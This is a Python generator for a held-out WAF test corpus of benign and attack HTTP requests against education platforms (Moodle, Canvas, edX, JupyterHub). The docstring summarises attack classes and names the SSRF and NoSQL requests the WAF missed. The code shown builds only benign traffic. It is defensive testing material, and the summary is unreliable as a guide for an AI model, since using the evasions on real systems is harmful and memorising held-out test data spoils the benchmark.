#!/usr/bin/env python3
"""Held-out HTTP test corpus: education and science platforms.

What it is
    A deterministic generator of realistic HTTP requests against education and
    research platforms running in Kubernetes: learning management systems
    (Moodle web services, Canvas REST, Open edX), LTI 1.3 launches with JWTs,
    SCORM / xAPI statements, code autograders and online judges, JupyterHub and
    Jupyter server APIs, maths forums and quizzes (LaTeX), chemistry (SMILES,
    InChI), bioinformatics (FASTA, BLAST, sequence ids with |), library
    catalogues (MARC, Boolean searches), citation managers (BibTeX), survey
    tools, research data repositories (DOIs, ORCID iDs, CSV uploads) and
    student information systems.  Scholarly text is full of braces, backslashes,
    dollar signs, parentheses, quotes and Boolean operators, which is what makes
    it a hard false-positive test for a WAF.

    * benign       ~500 ordinary requests (expect "pass", category "benign"),
                   plus ~50 "dev-content" requests (expect "pass", category
                   "dev-content"): source code submitted to autograders, Jupyter
                   kernel execute requests, SQL in a databases-course exercise,
                   shell snippets in a Linux-course forum post.
    * attacks      ~260 requests (expect "detect") with real attack payloads
                   placed in the domain's own injection points (quiz answers,
                   forum HTML, LTI parameters, kernel requests aimed at the
                   server, SCORM manifests, BibTeX/LaTeX fields, catalogue
                   searches, import-by-URL, certificate templates...).

    Written blind: without looking at the WAF's rules, its tests, its other
    corpora or their payload lists, so it measures generalisation rather than
    rule-fitting.

How to run
    python3 scripts/corpus-edusci.py attacks > rulesets/tests/data/edusci-attacks.jsonl
    python3 scripts/corpus-edusci.py benign  > rulesets/tests/data/edusci-benign.jsonl
    python3 scripts/corpus-edusci.py stats      # counts per category, to stderr

Each output line is one JSON object:
    {"id", "set": "edusci", "category", "expect": "detect"|"pass", "method",
     "uri" (percent-encoded as a client sends it), "version": "HTTP/1.1",
     "headers": [[name, value], ...], "body"?: str}

Only the standard library is used; every generator draws from its own
random.Random seeded by name, so output is byte-for-byte reproducible.

First sight (2026-12-05, palisade-rules at c163c11)
---------------------------------------------------
Counts: 273 attacks (sqli 42, xss 34, rce 24, ssrf 24, lfi 23, ssti 19,
xxe 18, java 15, nosqli 14, php 11, protocol 11, crlf 10, generic 10,
ldapi 10, rfi 8), 546 benign (496 ordinary + 50 dev-content).  Three
protocol attacks carry a deliberately wrong or doubled Content-Length
(CL.TE, TE.CL smuggling, duplicate Content-Length); every other body's
Content-Length is its UTF-8 byte length.

PL1 (threshold 5, built-in rules), one run, nothing tuned:
  attacks blocked   269/273 = 98.5 %  (100 % in every class except
                    nosqli 13/14, protocol 10/11, ssrf 22/24)
  benign blocked    22/496 = 4.4 % ordinary, 34/50 = 68 % dev-content

Missed attacks (4): an SSRF import-by-URL to an in-cluster service name
(hub.jhub.svc.cluster.local:8081), an SSRF through nbviewer's scheme-less
/url/127.1:8001/... path, a MongoDB $or/$gt filter in a JSON PATCH body, an
h2c Upgrade on a GET.

Ordinary benign blocked (22): every BibTeX / RIS import (protocol-110 on
Content-Type application/x-bibtex and application/x-research-info-systems;
two also sqli-002 on a BibTeX @string{...} definition), and every MediaWiki
edit holding <math>...</math> (xss-011 on the <math> tag).
"""

import base64
import json
import random
import sys
from urllib.parse import quote, quote_plus, urlencode

SET = "edusci"

# --------------------------------------------------------------------------
# Common helpers
# --------------------------------------------------------------------------

HOSTS = {
    "moodle": "moodle.uni-example.edu",
    "canvas": "canvas.district-example.org",
    "edx": "courses.learn-example.org",
    "lti": "tools.lti-example.edu",
    "judge": "judge.cs.uni-example.edu",
    "grader": "autograder.cs.uni-example.edu",
    "hub": "hub.datasci.uni-example.edu",
    "library": "catalog.library.uni-example.edu",
    "cite": "refs.uni-example.edu",
    "survey": "survey.uni-example.edu",
    "repo": "data.research-example.org",
    "sis": "sis.uni-example.edu",
    "chem": "chem.uni-example.edu",
    "bio": "bioinf.uni-example.edu",
    "lrs": "lrs.uni-example.edu",
    "wiki": "wiki.math.uni-example.edu",
}

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
]
API_UAS = [
    "python-requests/2.31.0",
    "MoodleMobile/4.3.0 (Android 13)",
    "CanvasAPI/3.2.0 (python)",
    "JupyterLab/4.1.5",
    "Zotero/6.0.30",
    "okhttp/4.12.0",
    "Go-http-client/1.1",
    "curl/8.5.0",
]

LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.6",
         "fr-FR,fr;q=0.9,en;q=0.5", "es-ES,es;q=0.9", "pt-BR,pt;q=0.9,en;q=0.7"]


def rng_for(name):
    """A random.Random seeded by the generator's name (stable across runs)."""
    return random.Random("edusci:" + name)


def token(rng, n=32, alphabet="abcdefghijklmnopqrstuvwxyz0123456789"):
    return "".join(rng.choice(alphabet) for _ in range(n))


def b64url(data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def fake_jwt(rng, claims, alg="RS256"):
    header = {"alg": alg, "typ": "JWT", "kid": token(rng, 12)}
    sig = b64url(bytes(rng.randrange(256) for _ in range(64)))
    return b64url(json.dumps(header, separators=(",", ":"))) + "." + \
        b64url(json.dumps(claims, separators=(",", ":"))) + "." + sig


def cookie_for(rng, kind):
    if kind == "moodle":
        return "MoodleSession=" + token(rng, 26)
    if kind == "canvas":
        return "_normandy_session=" + token(rng, 40, "abcdefABCDEF0123456789") + \
            "; _csrf_token=" + quote(base64.b64encode(bytes(rng.randrange(256) for _ in range(24))).decode())
    if kind == "edx":
        return "csrftoken=" + token(rng, 32) + "; sessionid=" + token(rng, 32) + \
            "; edxloggedin=true"
    if kind == "hub":
        return "jupyterhub-session-id=" + token(rng, 32, "0123456789abcdef") + \
            "; _xsrf=2|" + token(rng, 8, "0123456789abcdef") + "|" + token(rng, 32, "0123456789abcdef") + "|1714000000"
    return "session=" + token(rng, 32) + "; lang=en"


def qs(pairs):
    """Form-style query string, as a browser or requests would encode it."""
    return urlencode(pairs, quote_via=quote_plus)


def qs_pct(pairs):
    """Query string with %20 for spaces (fetch / axios style)."""
    return "&".join(quote(k, safe="") + "=" + quote(v, safe="") for k, v in pairs)


def multipart(rng, fields):
    """fields: list of (name, value) or (name, filename, ctype, content)."""
    boundary = "----WebKitFormBoundary" + token(rng, 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
    parts = []
    for f in fields:
        if len(f) == 2:
            parts.append('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n'
                         % (boundary, f[0], f[1]))
        else:
            name, filename, ctype, content = f
            parts.append('--%s\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\n'
                         'Content-Type: %s\r\n\r\n%s\r\n' % (boundary, name, filename, ctype, content))
    body = "".join(parts) + "--%s--\r\n" % boundary
    return "multipart/form-data; boundary=" + boundary, body


class Corpus:
    def __init__(self):
        self.items = []
        self.counters = {}

    def add(self, rng, category, expect, sub, method, host, path, query=None,
            body=None, ctype=None, headers=None, api=False, cookie=None,
            auth=None, raw_query=None, accept=None):
        key = (category, sub)
        n = self.counters.get(key, 0)
        self.counters[key] = n + 1
        rid = "%s/%s/%s/%d" % (SET, category, sub, n)
        uri = path
        if raw_query is not None:
            uri += "?" + raw_query
        elif query:
            uri += "?" + qs(query)
        h = [["Host", HOSTS.get(host, host)],
             ["User-Agent", rng.choice(API_UAS if api else BROWSER_UAS)]]
        if accept is None:
            accept = "application/json" if api else \
                "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
        h.append(["Accept", accept])
        if not api:
            h.append(["Accept-Language", rng.choice(LANGS)])
        h.append(["Accept-Encoding", "gzip, deflate, br"])
        if cookie:
            h.append(["Cookie", cookie_for(rng, cookie) if cookie in
                      ("moodle", "canvas", "edx", "hub", "generic") else cookie])
        if auth:
            h.append(["Authorization", auth])
        for extra in headers or []:
            h.append(list(extra))
        item = {"id": rid, "set": SET, "category": category,
                "expect": "pass" if category in ("benign", "dev-content") else "detect",
                "method": method, "uri": uri, "version": "HTTP/1.1", "headers": h}
        if expect is not None:
            item["expect"] = expect
        if body is not None:
            if ctype:
                h.append(["Content-Type", ctype])
            h.append(["Content-Length", str(len(body.encode("utf-8")))])
            item["body"] = body
        self.items.append(item)
        return item


# --------------------------------------------------------------------------
# Shared data pools
# --------------------------------------------------------------------------

NAMES = ["Siobhan O'Brien", "Liam O'Connor", "D'Angelo Harris", "Zoë Müller", "José Álvarez",
         "Nguyễn Thị Hoa", "Anne-Marie Dubois", "Seán Ó Briain", "Priya Ramaswamy", "Chen Wei",
         "Olufemi Adeyemi", "Björn Åkesson", "Marie-Claire St. John", "Jean-Luc D'Arcy",
         "Aoife Ní Bhriain", "Kwame Mensah-Bonsu", "Łukasz Wójcik", "Fatima Al-Zahra",
         "Hannah McAllister", "Yuki Tanaka", "Tomás O'Sullivan-Reyes", "Dr. Ruth Goldberg"]
COURSES = [("MATH 221", "Calculus II"), ("CHEM 110", "General Chemistry"),
           ("BIOL 342", "Molecular Genetics"), ("CS 101", "Intro to Programming"),
           ("CS 348", "Databases"), ("PHYS 201", "Electricity & Magnetism"),
           ("HIST 150", "World History: 1500-Present"), ("ENGL 205", "Shakespeare's Tragedies"),
           ("STAT 310", "Bayesian Statistics"), ("LING 120", "Language & Mind")]
LATEX = [
    r"$\frac{a}{b} + \frac{c}{d} = \frac{ad + bc}{bd}$",
    r"\begin{align} f(x) &= x^2 + 2x + 1 \\ &= (x+1)^2 \end{align}",
    r"$$\int_0^\infty e^{-x^2}\,dx = \frac{\sqrt{\pi}}{2}$$",
    r"\(\lim_{n \to \infty} \left(1 + \frac{1}{n}\right)^n = e\)",
    r"$\sum_{k=1}^{n} k = \frac{n(n+1)}{2}$",
    r"$A = \{x \in \mathbb{R} \mid x^2 < 4\}$",
    r"\[ \nabla \times \mathbf{E} = -\frac{\partial \mathbf{B}}{\partial t} \]",
    r"$\det\begin{pmatrix} a & b \\ c & d \end{pmatrix} = ad - bc$",
    r"$P(A|B) = \frac{P(B|A)P(A)}{P(B)}$",
    r"$|x - 3| < 5 \implies -2 < x < 8$",
    r"\begin{cases} 1 & \text{if } x > 0 \\ 0 & \text{otherwise} \end{cases}",
    r"$f'(x) = \lim_{h\to 0} \frac{f(x+h)-f(x)}{h}$",
    r"$\binom{n}{k} = \frac{n!}{k!(n-k)!}$",
    r"$e^{i\pi} + 1 = 0$",
    r"$\hat{\beta} = (X^\top X)^{-1} X^\top y$",
    r"$\mathcal{O}(n \log n)$",
    r"\begin{equation} \label{eq:schrodinger} i\hbar\frac{\partial}{\partial t}\Psi = \hat{H}\Psi \end{equation}",
    r"$\sigma = \sqrt{\frac{1}{N-1}\sum_{i=1}^N (x_i - \bar{x})^2}$",
    r"$\langle \psi | \phi \rangle$",
    r"$\mathrm{pH} = -\log_{10}[\mathrm{H}^+]$",
]
SMILES = [
    "CC(=O)Oc1ccccc1C(=O)O", "CN1C=NC2=C1C(=O)N(C(=O)N2C)C", "C1=CC=C(C=C1)O",
    "CC(C)CC1=CC=C(C=C1)C(C)C(=O)O", "C[C@@H](C(=O)O)N", "OC[C@H]1OC(O)[C@H](O)[C@@H](O)[C@@H]1O",
    "F/C=C/F", "C/C=C\\C", "[NH4+].[Cl-]", "CCO.CC(=O)O>>CC(=O)OCC.O", "c1ccc2c(c1)cc1ccc3cccc4ccc2c1c34",
    "O=C(O)c1ccccc1O", "N#Cc1ccccc1", "[O-][N+](=O)c1ccccc1", "CC(=O)NC1=CC=C(O)C=C1",
    "C1CCC(CC1)N", "CS(=O)(=O)C", "[2H]C([2H])([2H])O", "Cl/C=C/Cl", "[Na+].[O-]C(=O)C",
]
INCHI = [
    "InChI=1S/C9H8O4/c1-6(10)13-8-5-3-2-4-7(8)9(11)12/h2-5H,1H3,(H,11,12)",
    "InChI=1S/C8H10N4O2/c1-10-4-9-6-5(10)7(13)12(3)8(14)11(6)2/h4H,1-3H3",
    "InChI=1S/C2H6O/c1-2-3/h3H,2H2,1H3",
    "InChI=1S/C6H12O6/c7-1-2-3(8)4(9)5(10)6(11)12-2/h2-11H,1H2/t2-,3-,4+,5-,6?/m1/s1",
]
FASTA = [
    ">sp|P69905|HBA_HUMAN Hemoglobin subunit alpha OS=Homo sapiens OX=9606 GN=HBA1 PE=1 SV=2\n"
    "MVLSPADKTNVKAAWGKVGAHAGEYGAEALERMFLSFPTTKTYFPHFDLSHGSAQVKGHGKKVADALTNAVAHV\n"
    "DDMPNALSALSDLHAHKLRVDPVNFKLLSHCLLVTLAAHLPAEFTPAVHASLDKFLASVSTVLTSKYR\n",
    ">gi|568815597|ref|NM_007294.4| Homo sapiens BRCA1 DNA repair associated (BRCA1), mRNA\n"
    "GCTGAGACTTCCTGGACGGGGGACAGGCTGTGGGGTTTCTCAGATAACTGGGCCCCTGCGCTCAGGAGGC\n"
    "CTTCACCCTCTGCTCTGGGTAAAGTTCATTGGAACAGAAAGAAATGGATTTATCTGCTCTTCGCGTTGAA\n",
    ">tr|A0A024R161|A0A024R161_HUMAN Guanine nucleotide-binding protein subunit gamma\n"
    "MASNNTASIAQARKLVEQLKMEANIDRIKVSKAAADLMAYCEAHAKEDPLLTPVPASENPFREKKFFCAIL\n",
    ">lcl|query_1 16S rRNA partial [Escherichia coli K-12]\n"
    "AGAGTTTGATCATGGCTCAGATTGAACGCTGGCGGCAGGCCTAACACATGCAAGTCGAACGGTAACAGGAAG\n"
    "AAGCTTGCTTCTTTGCTGACGAGTGGCGGACGGGTGAGTAATGTCTGGGAAACTGCCTGATGGAGGGGGATA\n",
    ">seq2 |len=60|GC=0.52| sample:PLOT-4/rep-B\nATGCGTACGTTAGCNNNNATGCRYKMSWATGCGTACGTTAGC-ATGC--ATGCGTACGTTAGC\n",
]
BOOL_QUERIES = [
    '(climate OR "global warming") AND "sea level" NOT Antarctica',
    'title:"war and peace" OR author:Tolstoy',
    'su:(machine learning) AND py:2019-2023',
    '"O\'Reilly Media" AND (python OR perl)',
    'comput* AND (ethic* OR moral*)',
    'wom?n AND suffrage AND (britain OR "united kingdom")',
    'TI=("deep learning") AND AU=(LeCun, Y*)',
    '(CRISPR OR "Cas9") AND (ethics NOT agriculture)',
    'kw:shakespeare AND ti:"king lear" AND la:eng',
    '"it\'s a wonderful life" OR "it is a wonderful life"',
    'ISBN:978-0-262-03384-8',
    'dc.title any "fish frog" and dc.creator=smith',
    '@attr 1=4 "pride and prejudice"',
    '(author:"Knuth, Donald E.") AND subject:(algorithms OR "computer programming")',
    'heart AND (attack OR infarction) AND NOT (canine OR feline)',
    '"Fermat\'s last theorem" AND proof',
    'LCSH:"Mathematics -- History -- 19th century"',
    'call_number:QA76.73.P98 L88 2013',
    'subject:"C++ (Computer program language)"',
    '(Nobel AND prize) AND (1901..1950)',
]
DOIS = ["10.1038/nature14539", "10.1145/3065386", "10.5281/zenodo.7654321", "10.1103/PhysRevLett.116.061102",
        "10.1016/S0140-6736(20)30183-5", "10.1002/(SICI)1097-4571(199806)49:8<693::AID-ASI4>3.0.CO;2-0",
        "10.48550/arXiv.1706.03762", "10.1371/journal.pone.0285120"]
ORCIDS = ["0000-0002-1825-0097", "0000-0001-5109-3700", "0000-0003-1419-2405", "0000-0002-9079-593X"]


def canvas_auth(rng):
    return "Bearer 7~" + token(rng, 64, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")


def basic_auth(user, pw):
    return "Basic " + base64.b64encode(("%s:%s" % (user, pw)).encode()).decode()


def sesskey(rng):
    return token(rng, 10, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")


# --------------------------------------------------------------------------
# Benign: LMS (Moodle, Canvas, Open edX)
# --------------------------------------------------------------------------

QUIZ_ANSWERS = [
    "It's the derivative of $x^2$, i.e. $2x$.",
    "The mitochondria's inner membrane (cristae) hosts the electron transport chain.",
    "O'Brien's argument fails because it assumes P(A|B) = P(B|A).",
    "x = -3 or x = 5",
    "Approx. 6.02 × 10^23 mol^-1 (Avogadro's constant)",
    "Hamlet doesn't hesitate because he's a coward -- he's testing the ghost's story.",
    "NaCl + AgNO3 -> AgCl(s) + NaNO3",
    "1/2 * m * v^2",
    "True; the series converges (p-series with p = 2 > 1).",
    "The answer is 42 (see Q3's working).",
    "\\frac{1}{\\sqrt{2}}",
    "sqrt(2)/2",
    "diff(sin(x)^2, x) = 2*sin(x)*cos(x)",
    "integrate(x*exp(x), x) = (x-1)*exp(x) + C",
    "[1, 2, 3] and {4, 5}",
    "p < 0.05, so we reject H0",
    "Between 1914 & 1918; the \"Great War\"",
    "CH3COOH ⇌ CH3COO− + H+",
    "Option (c) -- it's both (a) and (b).",
    "a^2 + b^2 = c^2; here c = 13",
    "I'm not sure... maybe 3.14?",
    "F = ma => a = F/m = 10/2 = 5 m/s^2",
    "It's O(n log n) because of the merge step.",
    "Rosalind Franklin's Photo 51",
]
FORUM_POSTS = [
    "<p>Can someone explain why {latex}? I've tried it three times &amp; keep getting a sign error.</p>",
    "<p>Re: Week 4 lab -- thanks, Prof. O'Neill! The fix was to divide by (n-1), not n.</p>",
    "<p>Here's my working:</p><p>{latex}</p><p>Does that look right?</p>",
    "<p><strong>Reminder:</strong> study group Thursday @ 5pm in Rm. 204 (bring laptops!)</p>",
    "<p>I think the question's wording is ambiguous: \"select all that apply\" vs. \"select one\"?</p>",
    "<blockquote>What's the difference between a mean and a median?</blockquote><p>The median isn't affected by outliers, e.g. {{1, 2, 100}}.</p>",
    "<p>Quick Q: is it {latex} or did I mess up the limits?</p>",
    "<ul><li>Ch. 3, pp. 45-67</li><li>Ch. 4 (skip §4.3)</li><li>Problem set #2</li></ul>",
    "<p>Lol I spent 2 hrs on Q5 :( turns out it was a typo in my calculator -- 3.14 vs 31.4</p>",
    "<p>Has anyone read D'Arcy Thompson's <em>On Growth and Form</em>? It's relevant to week 6.</p>",
    "<p>My SMILES for aspirin: CC(=O)Oc1ccccc1C(=O)O -- does ChemDraw agree?</p>",
    "<p>For those asking: 50% exam + 30% labs + 20% quizzes = 100%. Late penalty is -10%/day.</p>",
    "<p>Title of my essay: \"To be, or not to be\": Hamlet's Question & Modern Existentialism</p>",
    "<p>Use <code>{latex}</code> in the editor; the MathJax filter renders it.</p>",
]


def gen_moodle_quiz(c, n=24):
    rng = rng_for("moodle_quiz")
    for i in range(n):
        attempt = rng.randint(10000, 99999)
        slot = rng.randint(1, 20)
        q = rng.randint(100, 9999)
        ans = QUIZ_ANSWERS[i % len(QUIZ_ANSWERS)]
        fields = [("attempt", str(attempt)), ("thispage", str(slot - 1)), ("nextpage", str(slot)),
                  ("timeup", "0"), ("sesskey", sesskey(rng)), ("mdlscrollto", ""),
                  ("slots", str(slot)),
                  ("q%d:%d_:sequencecheck" % (q, slot), "1")]
        if i % 3 == 2:
            fields.append(("q%d:%d_answer" % (q, slot), "<p>%s</p>" % ans.replace("&", "&amp;")))
            fields.append(("q%d:%d_answerformat" % (q, slot), "1"))
        else:
            fields.append(("q%d:%d_answer" % (q, slot), ans))
        fields.append(("next", "Next page"))
        c.add(rng, "benign", None, "moodle-quiz", "POST", "moodle", "/mod/quiz/processattempt.php",
              query=[("cmid", str(rng.randint(100, 5000)))], body=qs(fields),
              ctype="application/x-www-form-urlencoded", cookie="moodle",
              headers=[["Origin", "https://" + HOSTS["moodle"]],
                       ["Referer", "https://%s/mod/quiz/attempt.php?attempt=%d&cmid=%d" % (HOSTS["moodle"], attempt, q)]])


def gen_moodle_forum(c, n=28):
    rng = rng_for("moodle_forum")
    subjects = ["Re: Week 3 problem set", "Question about Q4", "Exam prep -- what's covered?",
                "Lab report format (APA vs. IEEE?)", "Re: Re: office hours moved", "Help with proof by induction",
                "Stoichiometry: 2H2 + O2 -> 2H2O", "Is 'i.e.' or 'e.g.' correct here?"]
    for i in range(n):
        post = FORUM_POSTS[i % len(FORUM_POSTS)].replace("{latex}", LATEX[(i * 7) % len(LATEX)])
        post = post.replace("{{", "{").replace("}}", "}")
        fields = [("course", str(rng.randint(2, 800))), ("forum", str(rng.randint(1, 300))),
                  ("discussion", str(rng.randint(1, 9000))), ("parent", str(rng.randint(1, 90000))),
                  ("reply", str(rng.randint(1, 90000))), ("sesskey", sesskey(rng)),
                  ("_qf__mod_forum_post_form", "1"), ("mform_isexpanded_id_general", "1"),
                  ("subject", subjects[i % len(subjects)]),
                  ("message[text]", post), ("message[format]", "1"),
                  ("message[itemid]", str(rng.randint(100000000, 999999999))),
                  ("discussionsubscribe", "1"), ("submitbutton", "Post to forum")]
        c.add(rng, "benign", None, "moodle-forum", "POST", "moodle", "/mod/forum/post.php",
              body=qs(fields), ctype="application/x-www-form-urlencoded", cookie="moodle",
              headers=[["Origin", "https://" + HOSTS["moodle"]]])


def gen_moodle_ws(c, n=20):
    rng = rng_for("moodle_ws")
    calls = [
        ("core_course_get_contents", [("courseid", "42")]),
        ("core_enrol_get_users_courses", [("userid", "1337")]),
        ("mod_assign_save_grade", [("assignmentid", "12"), ("userid", "88"), ("grade", "87.5"),
                                   ("attemptnumber", "-1"), ("addattempt", "0"), ("workflowstate", "graded"),
                                   ("applytoall", "0"),
                                   ("plugindata[assignfeedbackcomments_editor][text]",
                                    "<p>Good work! Your proof of $\\sqrt{2} \\notin \\mathbb{Q}$ is clear. Watch units in Q3 (m/s, not m/s^2).</p>"),
                                   ("plugindata[assignfeedbackcomments_editor][format]", "1")]),
        ("core_user_get_users_by_field", [("field", "email"), ("values[0]", "s.obrien@student.uni-example.edu")]),
        ("mod_forum_get_forum_discussions", [("forumid", "7"), ("sortorder", "-1"), ("page", "0"), ("perpage", "10")]),
        ("core_calendar_get_calendar_events", [("events[courseids][0]", "42"), ("options[timestart]", "1714000000")]),
        ("mod_quiz_get_attempt_review", [("attemptid", "5512"), ("page", "-1")]),
        ("core_message_send_instant_messages", [("messages[0][touserid]", "77"),
                                                ("messages[0][text]", "Hi Liam -- can we swap lab slots? I've got a clash w/ CHEM 110 :)"),
                                                ("messages[0][textformat]", "2")]),
        ("gradereport_user_get_grade_items", [("courseid", "42"), ("userid", "0")]),
        ("core_course_search_courses", [("criterianame", "search"), ("criteriavalue", "organic chemistry (2nd year)")]),
    ]
    for i in range(n):
        fn, params = calls[i % len(calls)]
        wstoken = token(rng, 32, "0123456789abcdef")
        if i % 2 == 0:
            c.add(rng, "benign", None, "moodle-ws", "POST", "moodle", "/webservice/rest/server.php",
                  query=[("wstoken", wstoken), ("wsfunction", fn), ("moodlewsrestformat", "json")],
                  body=qs(params), ctype="application/x-www-form-urlencoded", api=True)
        else:
            c.add(rng, "benign", None, "moodle-ws", "GET", "moodle", "/webservice/rest/server.php",
                  query=[("wstoken", wstoken), ("wsfunction", fn), ("moodlewsrestformat", "json")] + params,
                  api=True)


def gen_canvas(c, n=26):
    rng = rng_for("canvas")
    for i in range(n):
        cid = rng.randint(1000, 99999)
        aid = rng.randint(10000, 999999)
        k = i % 8
        auth = canvas_auth(rng)
        if k == 0:
            c.add(rng, "benign", None, "canvas-api", "GET", "canvas", "/api/v1/courses/%d/assignments" % cid,
                  raw_query="include%5B%5D=submission&include%5B%5D=overrides&order_by=due_at&per_page=50",
                  api=True, auth=auth)
        elif k == 1:
            body = json.dumps({"comment": {"text_comment": "Nice job, %s! One nit: it's \"its\" in para. 2, and cite (Smith et al., 2019) properly." % NAMES[i % len(NAMES)].split()[0]},
                               "submission": {"posted_grade": rng.choice(["A-", "92%", "17.5", "pass", "B+"])}})
            c.add(rng, "benign", None, "canvas-grade", "PUT", "canvas",
                  "/api/v1/courses/%d/assignments/%d/submissions/%d" % (cid, aid, rng.randint(1, 99999)),
                  body=body, ctype="application/json", api=True, auth=auth)
        elif k == 2:
            msg = "<p>%s</p><p>Also: %s</p>" % (FORUM_POSTS[i % len(FORUM_POSTS)].replace("{latex}", LATEX[i % len(LATEX)]).replace("<p>", "").replace("</p>", ""),
                                                LATEX[(i + 3) % len(LATEX)])
            c.add(rng, "benign", None, "canvas-discussion", "POST", "canvas",
                  "/api/v1/courses/%d/discussion_topics/%d/entries" % (cid, aid),
                  body=json.dumps({"message": msg}), ctype="application/json", cookie="canvas",
                  headers=[["X-CSRF-Token", token(rng, 44)], ["X-Requested-With", "XMLHttpRequest"]])
        elif k == 3:
            c.add(rng, "benign", None, "canvas-search", "GET", "canvas", "/api/v1/courses/%d/users" % cid,
                  raw_query=qs_pct([("search_term", rng.choice(["o'brien", "D'Angelo", "müller", "nguyen"])),
                                    ("enrollment_type[]", "student"), ("include[]", "avatar_url")]),
                  api=True, auth=auth)
        elif k == 4:
            body = json.dumps({"quiz_submissions": [{"attempt": 1, "validation_token": token(rng, 40, "0123456789abcdef"),
                                                     "questions": {str(aid): {"answer": QUIZ_ANSWERS[(i * 5) % len(QUIZ_ANSWERS)]},
                                                                   str(aid + 1): {"answer": [rng.randint(1000, 9999)]}}}]})
            c.add(rng, "benign", None, "canvas-quiz", "PUT", "canvas",
                  "/api/v1/courses/%d/quizzes/%d/submissions/%d" % (cid, rng.randint(1, 999), aid),
                  body=body, ctype="application/json", api=True, auth=auth)
        elif k == 5:
            body = json.dumps({"assignment": {"name": "Lab %d: Titration & pH (due Fri!)" % rng.randint(1, 9),
                                              "description": "<p>Determine the $K_a$ of acetic acid. Use $\\mathrm{pH} = \\mathrm{p}K_a + \\log\\frac{[A^-]}{[HA]}$.</p>",
                                              "points_possible": 20, "submission_types": ["online_upload", "online_text_entry"],
                                              "allowed_extensions": ["pdf", "docx", "xlsx"], "due_at": "2024-10-11T23:59:00-04:00"}})
            c.add(rng, "benign", None, "canvas-assignment", "POST", "canvas", "/api/v1/courses/%d/assignments" % cid,
                  body=body, ctype="application/json", api=True, auth=auth)
        elif k == 6:
            c.add(rng, "benign", None, "canvas-page", "GET", "canvas", "/courses/%d/pages/week-%d-readings-and-problem-set" % (cid, rng.randint(1, 14)),
                  raw_query="module_item_id=%d" % rng.randint(1, 999999), cookie="canvas")
        else:
            c.add(rng, "benign", None, "canvas-api", "GET", "canvas", "/api/v1/courses/%d/gradebook_history/feed" % cid,
                  raw_query="assignment_id=%d&per_page=100&page=%d" % (aid, rng.randint(1, 5)), api=True, auth=auth)


def gradebook_csv(rng, rows=8):
    lines = ['Student,ID,SIS User ID,SIS Login ID,Section,"Homework 1 (1234)","Midterm (1235)",Final Score,Notes']
    for _ in range(rows):
        name = rng.choice(NAMES)
        parts = name.split()
        last_first = '"%s, %s"' % (parts[-1], " ".join(parts[:-1]))
        note = rng.choice(["", "", "late -10%", '"excused (medical, see email 3/14)"', "re-grade requested",
                           '"said ""I\'ll resubmit"""', "N/A"])
        lines.append("%s,%d,S%07d,%s,%s,%s,%s,%s,%s" % (
            last_first, rng.randint(1000, 99999), rng.randint(0, 9999999),
            parts[-1].lower().replace("'", "") + str(rng.randint(1, 99)),
            rng.choice(["MATH 221-001", "MATH 221-002 (Online)"]), rng.choice(["10", "9.5", "EX", "-", "0"]),
            rng.choice(["88", "91.25", "", "72"]), rng.choice(["87.33", "91.0", "64.5"]), note))
    return "\r\n".join(lines) + "\r\n"


def gen_gradebook(c, n=12):
    rng = rng_for("gradebook")
    for i in range(n):
        csv = gradebook_csv(rng, rng.randint(4, 12))
        if i % 2 == 0:
            ct, body = multipart(rng, [("attachment[uploaded_data]", "grades_%d.csv" % i, "text/csv", csv),
                                       ("authenticity_token", token(rng, 44))])
            c.add(rng, "benign", None, "gradebook-csv", "POST", "canvas",
                  "/courses/%d/gradebook_upload" % rng.randint(1000, 99999),
                  body=body, ctype=ct, cookie="canvas")
        else:
            ct, body = multipart(rng, [("id", str(rng.randint(2, 900))), ("sesskey", sesskey(rng)),
                                       ("_qf__gradeimport_form", "1"),
                                       ("userfile", "gradebook export (%d).csv" % i, "text/csv", csv),
                                       ("separator", "comma"), ("encoding", "UTF-8"), ("previewrows", "10")])
            c.add(rng, "benign", None, "gradebook-csv", "POST", "moodle", "/grade/import/csv/index.php",
                  body=body, ctype=ct, cookie="moodle")


def gen_edx(c, n=20):
    rng = rng_for("edx")
    courses = ["course-v1:MITx+6.002x+2024_T1", "course-v1:HarvardX+CS50P+2024", "course-v1:UniX+CHEM101+Fall2024"]
    for i in range(n):
        course = courses[i % len(courses)]
        org, num, run = course.split(":")[1].split("+")
        block = token(rng, 32, "0123456789abcdef")
        k = i % 4
        if k == 0:
            body = qs([("input_%s_2_1" % block, rng.choice(["3*x^2 + 2*x", "sqrt(2)/2", "R1*R2/(R1+R2)", "e^(-t/tau)", "1/(j*omega*C)"])),
                       ("input_%s_3_1" % block, "choice_%d" % rng.randint(0, 3))])
            path = "/courses/%s/xblock/block-v1:%s+%s+%s+type@problem+block@%s/handler/xmodule_handler/problem_check" % (course, org, num, run, block)
            c.add(rng, "benign", None, "edx-problem", "POST", "edx", path, body=body,
                  ctype="application/x-www-form-urlencoded; charset=UTF-8", cookie="edx",
                  headers=[["X-CSRFToken", token(rng, 32)], ["X-Requested-With", "XMLHttpRequest"]])
